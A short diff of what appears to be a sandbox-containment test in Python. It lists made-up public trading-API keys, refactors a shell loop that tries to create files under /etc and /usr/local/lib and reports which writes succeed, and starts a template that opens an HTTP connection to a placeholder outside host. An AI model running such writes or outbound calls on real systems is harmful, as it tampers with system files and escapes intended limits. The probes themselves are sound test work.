@@ -30,7 +30,8 @@ MADE_UP: Mapping[str, str] = {  # the sandbox's own keys, public and worth nothi
     "alpaca_api_key": "SANDBOXALPACATRADEKEY",
     "alpaca_api_secret": "sandbox-alpaca-secret-made-up-and-public",
 }
-_ELSEWHERE = "for f in /x /usr/local/lib/arbit/x /etc/x; do touch $f && echo WROTE $f; done 2>/dev/null; true"
+_PLACES = "/x /usr/local/lib/arbit/x /etc/x"
+_ELSEWHERE = f"for f in {_PLACES}; do touch $f && echo WROTE $f; done 2>/dev/null; true"
 _PAGE = f"""
 import http.client
 line = http.client.HTTPConnection("{BEYOND}", {PORT}, timeout=5)
